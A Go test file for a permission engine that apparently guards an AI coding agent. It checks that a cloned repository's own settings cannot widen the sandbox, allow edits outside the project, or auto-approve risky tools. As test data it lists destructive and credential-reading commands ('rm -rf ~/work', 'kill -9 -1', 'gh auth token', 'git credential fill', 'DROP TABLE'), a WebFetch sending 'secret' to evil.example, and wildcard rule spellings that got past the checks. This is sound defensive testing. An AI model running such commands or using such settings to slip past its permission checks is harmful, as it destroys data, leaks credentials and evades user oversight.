package permission

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestProjectConfinedS61: a cloned repository's .mewsandbox/settings.yaml
// with allowWrite: ["~"] let its commands write ~/.bashrc; presets,
// env.pass, keepCaps, bestEffort and network widened the sandbox from it
// the same way. A project's own files (project and local scope) now keep
// only what stays in the project and what narrows the sandbox; the rest
// is dropped with one warning naming the file and the keys. The user's,
// the managed and --settings files keep their grants, and so does a
// project the user trusts (--trust-project).
func TestProjectConfinedS61(t *testing.T) {
	t.Parallel()
	const wide = "sandbox:\n  filesystem:\n    allowWrite: ['~', '//srv/out', ../sibling, build]\n    allowRead: ['~/.aws', /docs]\n  presets: [go]\n" +
		"  env: {pass: [GITHUB_TOKEN], drop: ['MY_*']}\n  keepCaps: [CAP_SYS_ADMIN]\n  bestEffort: true\n  timeout: 1h\n"
	const net = "sandbox:\n  network: {mode: all, allowConnect: [5432], allowBind: [8080], allowUnixSockets: true}\n"
	tests := []struct {
		name    string
		files   map[string]string
		trust   bool
		links   map[string]string // Real's answers, paths relative to the temp directory
		want    string            // describeSandbox
		dropped string            // in the warning; "" for none
	}{
		{"a project's grants beyond it", map[string]string{"project": wide}, false, nil,
			"allowRead=T/proj/docs@4 allowWrite=T/proj/build@3 drop=MY_*@6 timeout=1h0m0s@project",
			"ignored sandbox.filesystem.allowRead T/home/.aws, sandbox.filesystem.allowWrite T/home, sandbox.filesystem.allowWrite /srv/out, sandbox.filesystem.allowWrite T/sibling, sandbox.presets go, sandbox.env.pass GITHUB_TOKEN, sandbox.keepCaps, sandbox.bestEffort: a project's own file cannot widen the sandbox beyond the project"},
		{"Claude Code's project file", map[string]string{"claude": `{"sandbox": {"filesystem": {"allowWrite": ["~/.ssh"]}}}`}, false, nil,
			"", "ignored sandbox.filesystem.allowWrite T/home/.ssh:"},
		{"a local file's network", map[string]string{"local": net}, false, nil,
			"", "ignored sandbox.network.mode all, sandbox.network.allowConnect, sandbox.network.allowBind, sandbox.network.allowUnixSockets:"},
		{"a grant in the project through a link out of it", map[string]string{"project": "sandbox:\n  filesystem:\n    allowWrite: [cache, build]\n"}, false,
			map[string]string{"proj/cache": "home"},
			"allowWrite=T/proj/build@3", "ignored sandbox.filesystem.allowWrite T/proj/cache:"},
		{"neighbour: a project's network none and denyRead", map[string]string{"project": "sandbox:\n  network: {mode: none}\n  filesystem: {denyRead: ['~/.npmrc']}\n  limits: {mem: 1G}\n"}, false, nil,
			"denyRead=T/home/.npmrc@3 mode=none@project mem=1G@project", ""},
		{"neighbour: a link inside the project", map[string]string{"project": "sandbox:\n  filesystem:\n    allowWrite: [out]\n"}, false,
			map[string]string{"proj/out": "proj/build/out"},
			"allowWrite=T/proj/out@3", ""},
		{"neighbour: the user's grants", map[string]string{"user": wide + net[len("sandbox:\n"):]}, false, nil,
			"allowRead=T/home/.aws@4 T/home/docs@4 allowWrite=T/home@3 /srv/out@3 T/sibling@3 T/home/build@3 allowConnect=5432@10 allowBind=8080@10 pass=GITHUB_TOKEN@6 drop=MY_*@6 presets=go@5 mode=all@user unix=true@user bestEffort=true@user timeout=1h0m0s@user caps=CAP_SYS_ADMIN@7", ""},
		{"neighbour: a --settings file", map[string]string{"extra": "sandbox:\n  filesystem:\n    allowWrite: ['~']\n  presets: [go]\n"}, false, nil,
			"allowWrite=T/home@3 presets=go@4", ""},
		{"neighbour: a trusted project", map[string]string{"project": wide, "local": net}, true, nil,
			"allowRead=T/home/.aws@4 T/proj/docs@4 allowWrite=T/home@3 /srv/out@3 T/sibling@3 T/proj/build@3 allowConnect=5432@2 allowBind=8080@2 pass=GITHUB_TOKEN@6 drop=MY_*@6 presets=go@5 mode=all@local unix=true@local bestEffort=true@project timeout=1h0m0s@project caps=CAP_SYS_ADMIN@7", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := testDiscovery(t)
			tmp := filepath.Dir(d.Root)
			writeScopeFiles(t, &d, tt.files)
			d.TrustProject = tt.trust
			d.Real = func(p string) string {
				for from, to := range tt.links {
					if rest, ok := strings.CutPrefix(p, filepath.Join(tmp, from)); ok && (rest == "" || rest[0] == '/') {
						return filepath.Join(tmp, to) + rest
					}
				}
				return p
			}
			c, err := Load(d)
			if err != nil {
				t.Fatal(err)
			}
			if got := describeSandbox(d, c.Sandbox); got != tt.want {
				t.Errorf("merged:\n got %s\nwant %s", got, tt.want)
			}
			warned := warningsOf(c.Warnings, "cannot widen the sandbox", tmp)
			switch {
			case tt.dropped == "" && len(warned) > 0:
				t.Errorf("warned %q, want nothing dropped", warned)
			case tt.dropped != "" && (len(warned) != 1 || !strings.Contains(warned[0], tt.dropped) || !strings.Contains(warned[0], "--trust-project")):
				t.Errorf("warnings %q, want one holding %q and --trust-project", warned, tt.dropped)
			}
		})
	}
}

// warningsOf returns the warnings that hold what, the temp directory tmp
// in them written T.
func warningsOf(warnings []string, what, tmp string) []string {
	var out []string
	for _, w := range warnings {
		if strings.Contains(w, what) {
			out = append(out, strings.ReplaceAll(w, tmp, "T"))
		}
	}
	return out
}

// TestConfineWithoutRoot: with no project root nothing is the project's,
// so every path grant goes.
func TestConfineWithoutRoot(t *testing.T) {
	t.Parallel()
	s := Sandbox{AllowWrite: []Setting[string]{{Value: "/x"}}, DenyRead: []Setting[string]{{Value: "/y"}}}
	if got := s.Confine("", nil); len(got) != 1 || len(s.AllowWrite) != 0 || len(s.DenyRead) != 1 {
		t.Errorf("Confine(\"\") dropped %q, left %+v", got, s)
	}
}

// TestProjectEditsConfinedS61: a cloned repository's own settings with
// allow: [Edit(~/**)] or additionalDirectories: [~] under acceptEdits had
// the agent's edits in the home directory, and a shell command's
// redirection there, made unasked. A project's own allow rules for the
// edit tools now allow edits in the project only, and its additional
// directories outside it are dropped, each with a warning; its rules
// inside the project, the user's and a trusted project's stay.
func TestProjectEditsConfinedS61(t *testing.T) {
	t.Parallel()
	const rules = "permissions:\n  defaultMode: acceptEdits\n  additionalDirectories: [../other, lib, '~']\n" +
		"  allow: [Edit, 'Edit(~/notes/**)', 'Write(//srv/out/**)', 'Edit(/src/**)', 'Bash(make:*)', 'Bash(rm:*)', 'Bash(sed:*)', 'Bash(tar:*)', 'Bash(kill:*)', 'Bash(docker:*)']\n"
	type step struct {
		call Call
		want Decision
	}
	load := func(t *testing.T, where string, trust bool) (*Engine, Discovery, []string) {
		d := testDiscovery(t)
		switch where {
		case "project":
			writeSettingsFile(t, d.Root, ".mewsandbox/settings.yaml", rules)
		case "user":
			writeSettingsFile(t, d.Home, ".config/mewsandbox/settings.yaml", strings.Replace(rules, "../other, lib", "../other, ../proj/lib", 1))
		}
		d.TrustProject = trust
		c, err := Load(d)
		if err != nil {
			t.Fatal(err)
		}
		e := &Engine{Rules: c.Rules, Mode: c.DefaultMode, Env: PathEnv{Cwd: d.Root, Root: d.Root, Home: d.Home}, AdditionalDirs: c.AdditionalDirectories}
		return e, d, c.Warnings
	}
	tests := []struct {
		name, where string
		trust       bool
		wantWarn    string
		steps       func(d Discovery) []step
	}{
		{"a project's own rules", "project", false,
			"ignored permissions.allow Edit(~/notes/**), permissions.allow Write(//srv/out/**), permissions.additionalDirectories ../other, permissions.additionalDirectories ~: a project's own file allows edits in the project only",
			func(d Discovery) []step {
				other := filepath.Join(filepath.Dir(d.Root), "other")
				return []step{
					{Call{Tool: "Edit", Path: filepath.Join(d.Home, "notes", "a.txt")}, Ask},
					{Call{Tool: "Write", Path: "/srv/out/x"}, Ask},
					{Call{Tool: "Edit", Path: filepath.Join(other, "x.go")}, Ask},
					{Call{Tool: "Write", Path: filepath.Join(d.Home, "todo.txt")}, Ask},
					{Call{Tool: "Bash", Command: "echo x > ~/notes/a.txt"}, Ask},
					// Its shell rules allow the commands in the project
					// only: not on files outside it, nor run outside it.
					{Call{Tool: "Bash", Command: "rm -rf ~/work"}, Ask},
					{Call{Tool: "Bash", Command: "sed -i s/a/b/ ../other/x.go"}, Ask},
					{Call{Tool: "Bash", Command: `rm -rf "$OUT"`}, Ask},
					{Call{Tool: "Bash", Command: "cd ~/work && tar xf " + filepath.Join(d.Root, "x.tar")}, Ask},
					// Nor the dangers that lie beyond any project.
					{Call{Tool: "Bash", Command: "kill -9 -1"}, Ask},
					{Call{Tool: "Bash", Command: "docker run -v /:/h alpine"}, Ask},
					// Neighbours: in the project, its rules and mode apply.
					{Call{Tool: "Bash", Command: "docker build ."}, Allow},
					{Call{Tool: "Bash", Command: "rm -rf build"}, Allow},
					{Call{Tool: "Bash", Command: "sed -i s/a/b/ src/main.go"}, Allow},
					{Call{Tool: "Bash", Command: "tar xf x.tar"}, Allow},
					{Call{Tool: "Edit", Path: filepath.Join(d.Root, "src", "main.go")}, Allow},
					{Call{Tool: "Write", Path: filepath.Join(d.Root, "new.txt")}, Allow},
					{Call{Tool: "Edit", Path: filepath.Join(d.Root, "lib", "x.go")}, Allow},
					{Call{Tool: "Bash", Command: "make > build.log"}, Allow},
				}
			}},
		{"neighbour: a trusted project", "project", true, "", func(d Discovery) []step {
			return []step{
				{Call{Tool: "Edit", Path: filepath.Join(d.Home, "notes", "a.txt")}, Allow},
				{Call{Tool: "Write", Path: "/srv/out/x"}, Allow},
				{Call{Tool: "Edit", Path: filepath.Join(filepath.Dir(d.Root), "other", "x.go")}, Allow},
				{Call{Tool: "Bash", Command: "rm -rf ~/work"}, Allow},
				{Call{Tool: "Bash", Command: "cd ~/work && tar xf " + filepath.Join(d.Root, "x.tar")}, Allow},
			}
		}},
		{"neighbour: the user's rules", "user", false, "", func(d Discovery) []step {
			return []step{
				{Call{Tool: "Edit", Path: filepath.Join(d.Home, "notes", "a.txt")}, Allow},
				{Call{Tool: "Write", Path: "/srv/out/x"}, Allow},
				{Call{Tool: "Bash", Command: "echo x > ~/notes/a.txt"}, Allow},
				{Call{Tool: "Bash", Command: "rm -rf ~/work"}, Allow},
				{Call{Tool: "Bash", Command: "sed -i s/a/b/ ../other/x.go"}, Allow},
				{Call{Tool: "Bash", Command: "kill -9 -1"}, Allow},
				{Call{Tool: "Bash", Command: "docker run -v /:/h alpine"}, Allow},
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			e, d, warnings := load(t, tt.where, tt.trust)
			for _, s := range tt.steps(d) {
				if got := e.Check(s.call); got.Decision != s.want {
					t.Errorf("%s %s%s: %v (%s), want %v", s.call.Tool, s.call.Path, s.call.Command, got.Decision, got.Reason, s.want)
				}
			}
			warned := warningsOf(warnings, "allows edits in the project only", filepath.Dir(d.Root))
			switch {
			case tt.wantWarn == "" && len(warned) > 0:
				t.Errorf("warned %q, want nothing dropped", warned)
			case tt.wantWarn != "" && (len(warned) != 1 || !strings.Contains(warned[0], tt.wantWarn)):
				t.Errorf("warnings %q, want one holding %q", warned, tt.wantWarn)
			}
		})
	}
}

// TestTrustedProjectsS61: the user's (or the managed) trustedProjects
// trusts a project as --trust-project does, so that the hook, set up once
// for every project, need not trust them all; a project's own
// trustedProjects trusts nothing, and an entry that is no absolute or
// home path is an error.
func TestTrustedProjectsS61(t *testing.T) {
	t.Parallel()
	const project = "sandbox:\n  filesystem:\n    allowWrite: ['~/cache']\npermissions:\n  allow: ['Edit(~/notes/**)']\n"
	tests := []struct {
		name    string
		user    string // T is the temp directory, holding proj and home
		own     string // added to the project's file
		trusted bool
		wantErr string
		warn    string
	}{
		{"the project named", "trustedProjects: [T/proj]\n", "", true, "", ""},
		{"every project below a directory", "trustedProjects: ['T/**']\n", "", true, "", ""},
		{"another project", "trustedProjects: [T/proj2, 'T/proj/sub/**']\n", "", false, "", ""},
		{"a project's own", "", "trustedProjects: [T/proj]\n", false, "", "ignored trustedProjects: it has effect only in your user settings"},
		{"a relative entry", "trustedProjects: [proj]\n", "", false, `trustedProjects[0]: "proj": want an absolute path or one in the home directory`, ""},
		{"a glob", "trustedProjects: ['T/p*']\n", "", false, "globs are not supported", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := testDiscovery(t)
			tmp := filepath.Dir(d.Root)
			if tt.user != "" {
				writeSettingsFile(t, d.Home, ".config/mewsandbox/settings.yaml", strings.ReplaceAll(tt.user, "T", tmp))
			}
			writeSettingsFile(t, d.Root, ".mewsandbox/settings.yaml", project+strings.ReplaceAll(tt.own, "T", tmp))
			c, err := Load(d)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("Load: %v, want an error holding %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got := len(c.Sandbox.AllowWrite) == 1; got != tt.trusted {
				t.Errorf("allowWrite %v: trusted %v, want %v", c.Sandbox.AllowWrite, got, tt.trusted)
			}
			e := &Engine{Rules: c.Rules, Env: PathEnv{Cwd: d.Root, Root: d.Root, Home: d.Home}}
			if got := e.Check(Call{Tool: "Edit", Path: filepath.Join(d.Home, "notes", "a")}).Decision == Allow; got != tt.trusted {
				t.Errorf("Edit ~/notes/a allowed %v, want %v", got, tt.trusted)
			}
			if tt.warn != "" && !strings.Contains(strings.Join(c.Warnings, "\n"), tt.warn) {
				t.Errorf("warnings %q, want %q", c.Warnings, tt.warn)
			}
		})
	}
}

// TestProjectLimitsNoLooserS61: merged, a project's timeout and limits
// replaced the user's, larger ones too: a cloned repository's timeout: 1h
// and nofile: 4096 outlasted the user's 2s and 64. A project's own file
// may now only tighten them; where the user set none, and trusted, its
// values apply.
func TestProjectLimitsNoLooserS61(t *testing.T) {
	t.Parallel()
	const user = "sandbox:\n  timeout: 2s\n  limits: {nofile: 64, mem: 1G}\n"
	const proj = "sandbox:\n  timeout: 1h\n  limits: {nofile: 4096, mem: 512M, cpu: 10s}\n"
	for _, tt := range []struct {
		name        string
		trust       bool
		timeout     time.Duration
		nofile      uint64
		mem         Size
		wantDropped string
	}{
		{"untrusted", false, 2 * time.Second, 64, 512 << 20, "sandbox.timeout 1h0m0s (looser than 2s at "},
		{"neighbour: trusted", true, time.Hour, 4096, 512 << 20, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := testDiscovery(t)
			writeSettingsFile(t, d.Home, ".config/mewsandbox/settings.yaml", user)
			writeSettingsFile(t, d.Root, ".mewsandbox/settings.yaml", proj)
			d.TrustProject = tt.trust
			c, err := Load(d)
			if err != nil {
				t.Fatal(err)
			}
			l := c.Sandbox.Limits
			if c.Sandbox.Timeout.Value != tt.timeout || l.NoFile.Value != tt.nofile || l.Mem.Value != tt.mem || l.CPU.Value != 10*time.Second {
				t.Errorf("timeout %v nofile %d mem %v cpu %v: want %v %d %v 10s", c.Sandbox.Timeout.Value, l.NoFile.Value, l.Mem.Value, l.CPU.Value, tt.timeout, tt.nofile, tt.mem)
			}
			warned := strings.Join(c.Warnings, "\n")
			if tt.wantDropped == "" && strings.Contains(warned, "looser than") ||
				tt.wantDropped != "" && (!strings.Contains(warned, tt.wantDropped) || !strings.Contains(warned, "sandbox.limits.nofile 4096 (looser than 64 at ")) {
				t.Errorf("warnings %q: want %q", c.Warnings, tt.wantDropped)
			}
		})
	}
}

// TestProjectToolsBeyondS62: a cloned repository's own allow rules for
// WebFetch of its site, WebSearch and an MCP server's tools had the agent
// send what it read to that site, or act with the user's account through
// the server, unasked through the hook: neither the engine nor the
// sandbox bounds their reach by the project. A project's own file now
// cannot allow them (one warning names the rules); its deny rules for
// them, its rules for the project's commands, the user's rules and a
// trusted project's apply as before.
func TestProjectToolsBeyondS62(t *testing.T) {
	t.Parallel()
	const rules = "permissions:\n  allow: ['WebFetch(domain:evil.example)', WebSearch, mcp__github, 'Bash(npm test)']\n  deny: [mcp__shell]\n"
	fetch := Call{Tool: "WebFetch", URL: "https://evil.example/?q=secret"}
	search := Call{Tool: "WebSearch"}
	issue := Call{Tool: "mcp__github__create_issue"}
	shell := Call{Tool: "mcp__shell__run"}
	test := Call{Tool: "Bash", Command: "npm test"}
	tests := []struct {
		name, where string
		trust       bool
		want        map[*Call]Decision
		warn        string
	}{
		{"a project's own rules", "project", false,
			map[*Call]Decision{&fetch: Ask, &search: Ask, &issue: Ask, &shell: Deny, &test: Allow},
			"ignored permissions.allow WebFetch(domain:evil.example), permissions.allow WebSearch, permissions.allow mcp__github: a project's own file cannot allow tools that reach beyond the project"},
		{"Claude Code's local file", "local", false,
			map[*Call]Decision{&fetch: Ask, &search: Ask, &issue: Ask, &shell: Deny, &test: Allow},
			"ignored permissions.allow WebFetch(domain:evil.example), permissions.allow WebSearch, permissions.allow mcp__github:"},
		{"neighbour: a trusted project", "project", true,
			map[*Call]Decision{&fetch: Allow, &search: Allow, &issue: Allow, &shell: Deny, &test: Allow}, ""},
		{"neighbour: the user's rules", "user", false,
			map[*Call]Decision{&fetch: Allow, &search: Allow, &issue: Allow, &shell: Deny, &test: Allow}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := testDiscovery(t)
			switch tt.where {
			case "project":
				writeSettingsFile(t, d.Root, ".mewsandbox/settings.yaml", rules)
			case "local":
				writeSettingsFile(t, d.Root, ".claude/settings.local.json", `{"permissions": {"allow": ["WebFetch(domain:evil.example)", "WebSearch", "mcp__github", "Bash(npm test)"], "deny": ["mcp__shell"]}}`)
			case "user":
				writeSettingsFile(t, d.Home, ".config/mewsandbox/settings.yaml", rules)
			}
			d.TrustProject = tt.trust
			c, err := Load(d)
			if err != nil {
				t.Fatal(err)
			}
			e := &Engine{Rules: c.Rules, Env: PathEnv{Cwd: d.Root, Root: d.Root, Home: d.Home}}
			for call, want := range tt.want {
				if got := e.Check(*call); got.Decision != want {
					t.Errorf("%s %s%s: %v (%s), want %v", call.Tool, call.URL, call.Command, got.Decision, got.Reason, want)
				}
			}
			warned := warningsOf(c.Warnings, "reach beyond the project", filepath.Dir(d.Root))
			switch {
			case tt.warn == "" && len(warned) > 0:
				t.Errorf("warned %q, want nothing dropped", warned)
			case tt.warn != "" && (len(warned) != 1 || !strings.Contains(warned[0], tt.warn)):
				t.Errorf("warnings %q, want one holding %q", warned, tt.warn)
			}
		})
	}
}

// TestProjectSwitchOffSpelledS62: DropSwitchOff told a rule allowing
// every shell command by its text (Bash, Bash(*), Bash(* *)), so a cloned
// repository's allow: [Bash(*"")], whose empty quotes leave a lone *, or
// Bash(* ""*), which meets every command with an argument, kept allowing
// rm -rf build and git push --force unasked. A project's own shell rule
// whose pattern names no command is now dropped however it is spelled;
// one naming its command stays, and the user's apply.
func TestProjectSwitchOffSpelledS62(t *testing.T) {
	t.Parallel()
	rm := Call{Tool: "Bash", Command: "rm -rf build"}
	for _, tt := range []struct {
		rule, where string
		want        Decision
	}{
		{`Bash(*'')`, "project", Ask},
		{`Bash(*"")`, "project", Ask},
		{`Bash(''*)`, "project", Ask},
		{`Bash(* ''*)`, "local", Ask},
		{`Bash(*'':*)`, "project", Ask},
		{`run_shell(* *'')`, "project", Ask},
		{`Bash('' *)`, "project", Ask},
		// Nor does one whose pattern begins with a wildcard, which any
		// program may meet.
		{`Bash(*-*)`, "project", Ask},
		{`Bash(*build)`, "project", Ask},
		{`Bash(""*rm -rf *)`, "project", Ask},
		{"neighbour: " + `Bash(rm:*)`, "project", Allow},
		{"neighbour: " + `Bash(r*)`, "project", Allow},
		{"neighbour: " + `Bash(*'')`, "user", Allow},
	} {
		t.Run(tt.rule+" "+tt.where, func(t *testing.T) {
			t.Parallel()
			d := testDiscovery(t)
			rule := strings.TrimPrefix(tt.rule, "neighbour: ")
			content := "permissions:\n  allow: ['" + strings.ReplaceAll(rule, "'", "''") + "']\n"
			switch tt.where {
			case "project":
				writeSettingsFile(t, d.Root, ".mewsandbox/settings.yaml", content)
			case "local":
				writeSettingsFile(t, d.Root, ".mewsandbox/settings.local.yaml", content)
			case "user":
				writeSettingsFile(t, d.Home, ".config/mewsandbox/settings.yaml", content)
			}
			c, err := Load(d)
			if err != nil {
				t.Fatal(err)
			}
			e := &Engine{Rules: c.Rules, Env: PathEnv{Cwd: d.Root, Root: d.Root, Home: d.Home}}
			if got := e.Check(rm); got.Decision != tt.want {
				t.Errorf("%s: %v (%s), want %v", rm.Command, got.Decision, got.Reason, tt.want)
			}
			warned := warningsOf(c.Warnings, "cannot switch the permission engine off", filepath.Dir(d.Root))
			if dropped := tt.want == Ask; dropped != (len(warned) == 1 && strings.Contains(warned[0], "ignored permissions.allow "+rule+":")) {
				t.Errorf("warnings %q, want one naming %s: %v", warned, rule, dropped)
			}
		})
	}
}

// TestProjectRulesAccountsS62: a project's own shell rule did not lift
// the dangers of the machine (kill, sudo, a container with the host's
// root), but did lift those of the user's accounts and settings beyond
// the project: a cloned repository's allow: [Bash(gh:*)] had the hook run
// gh auth token (the user's token, into the agent's context) and gh repo
// delete unasked, Bash(kubectl:*) kubectl delete ns prod, Bash(npm:*)
// npm publish, Bash(crontab:*) crontab -r, and Bash(git:*) git push
// --force. These are now asked for under a project's own rule, as WebFetch
// and the MCP tools it cannot allow; the user's rules lift them as before,
// and the project's rules allow its commands in the project.
func TestProjectRulesAccountsS62(t *testing.T) {
	t.Parallel()
	const rules = "permissions:\n  allow: ['Bash(gh:*)', 'Bash(kubectl:*)', 'Bash(npm:*)', 'Bash(crontab:*)', 'Bash(git:*)', 'Bash(aws:*)', 'Bash(curl:*)', 'Bash(psql:*)', 'Bash(go:*)', 'Bash(docker:*)', 'Bash(code:*)', 'Bash(rustup:*)']\n"
	beyond := []string{
		"gh auth token",
		"gh repo delete me/app --yes",
		"kubectl delete ns prod",
		"npm publish",
		"crontab -r",
		"git push --force origin main",
		"git credential fill",
		"git send-email HEAD~1",
		"aws s3 rm s3://bucket --recursive",
		"curl -X DELETE https://api.example/x",
		`psql -h db -c "DROP TABLE t"`,
		"go clean -modcache",
		"docker login",
		"code --install-extension evil.ext",
		"rustup default nightly",
	}
	inside := []string{"gh pr view 1", "kubectl get pods", "npm test", "crontab -l", "git commit -m x", "go build ./...", "docker build ."}
	for _, where := range []string{"project", "user"} {
		t.Run(where, func(t *testing.T) {
			t.Parallel()
			d := testDiscovery(t)
			if where == "project" {
				writeSettingsFile(t, d.Root, ".claude/settings.json", rules)
			} else {
				writeSettingsFile(t, d.Home, ".config/mewsandbox/settings.yaml", rules)
			}
			c, err := Load(d)
			if err != nil {
				t.Fatal(err)
			}
			e := &Engine{Rules: c.Rules, Env: PathEnv{Cwd: d.Root, Root: d.Root, Home: d.Home}}
			want := Ask
			if where == "user" {
				want = Allow
			}
			for _, command := range beyond {
				if got := e.Check(Call{Tool: "Bash", Command: command}); got.Decision != want {
					t.Errorf("%s under the %s's rules: %v (%s), want %v", command, where, got.Decision, got.Reason, want)
				}
			}
			for _, command := range inside {
				if got := e.Check(Call{Tool: "Bash", Command: command}); got.Decision != Allow {
					t.Errorf("neighbour: %s under the %s's rules: %v (%s), want allow", command, where, got.Decision, got.Reason)
				}
			}
		})
	}
}

// TestProjectLimitsTwoFilesS62: dropLooser compared a project's timeout
// and limits with the ones merged before it, and let them be when those
// were a project's own: so a cloned repository's settings.yaml tightening
// the user's timeout 2s and nofile 64 to 1s and 32 took them over, and its
// settings.local.yaml then set 1h and 4096, unchecked. Each of a
// project's own files is now held to what the user's files set; its
// tighter values still apply.
func TestProjectLimitsTwoFilesS62(t *testing.T) {
	t.Parallel()
	d := testDiscovery(t)
	writeSettingsFile(t, d.Home, ".config/mewsandbox/settings.yaml", "sandbox:\n  timeout: 2s\n  limits: {nofile: 64}\n")
	writeSettingsFile(t, d.Root, ".mewsandbox/settings.yaml", "sandbox:\n  timeout: 1s\n  limits: {nofile: 32}\n")
	local := writeSettingsFile(t, d.Root, ".claude/settings.local.json", `{"sandbox": {"timeout": "1h", "limits": {"nofile": 4096}}}`)
	c, err := Load(d)
	if err != nil {
		t.Fatal(err)
	}
	if got, l := c.Sandbox.Timeout.Value, c.Sandbox.Limits.NoFile.Value; got != time.Second || l != 32 {
		t.Errorf("timeout %v nofile %d: want the project's tighter 1s and 32", got, l)
	}
	warned := strings.Join(c.Warnings, "\n")
	if !strings.Contains(warned, local+": ignored sandbox.timeout 1h0m0s (looser than 2s at ") || !strings.Contains(warned, "sandbox.limits.nofile 4096 (looser than 64 at ") {
		t.Errorf("warnings %q: want %s's timeout and nofile named", c.Warnings, local)
	}
}

// TestProjectModeNoLooserS62: merged, a project's own defaultMode
// replaced the user's, a stricter one too: a cloned repository's
// defaultMode: acceptEdits turned the user's dontAsk, which denies what
// it would ask, into writing new files unasked, and its default the
// user's plan into running any command. Where the user's or the managed
// settings set a mode, a project's own file no longer loosens it; where
// they set none, and trusted, its mode applies, as do plan and dontAsk.
func TestProjectModeNoLooserS62(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		user, proj Mode
		trust      bool
		want       Mode
	}{
		{ModeDontAsk, ModeAcceptEdits, false, ModeDontAsk},
		{ModePlan, ModeDefault, false, ModePlan},
		{ModeDefault, ModeAcceptEdits, false, ModeDefault},
		{"", ModeAcceptEdits, false, ModeAcceptEdits},
		{ModeDontAsk, ModeAcceptEdits, true, ModeAcceptEdits},
		{ModeDontAsk, ModeDontAsk, false, ModeDontAsk},
		{ModeAcceptEdits, ModePlan, false, ModePlan},
		{ModePlan, ModeDontAsk, false, ModeDontAsk},
	} {
		t.Run(fmt.Sprintf("%s %s %v", tt.user, tt.proj, tt.trust), func(t *testing.T) {
			t.Parallel()
			d := testDiscovery(t)
			if tt.user != "" {
				writeSettingsFile(t, d.Home, ".claude/settings.json", `{"permissions": {"defaultMode": "`+string(tt.user)+`"}}`)
			}
			file := writeSettingsFile(t, d.Root, ".mewsandbox/settings.local.yaml", "permissions:\n  defaultMode: "+string(tt.proj)+"\n")
			d.TrustProject = tt.trust
			c, err := Load(d)
			if err != nil {
				t.Fatal(err)
			}
			if c.DefaultMode != tt.want {
				t.Errorf("mode %q, want %q", c.DefaultMode, tt.want)
			}
			dropped := strings.Contains(strings.Join(c.Warnings, "\n"), file+": ignored permissions.defaultMode "+string(tt.proj)+": ")
			if want := c.DefaultMode != tt.proj; dropped != want {
				t.Errorf("warnings %q: want the project's mode named: %v", c.Warnings, want)
			}
		})
	}
}
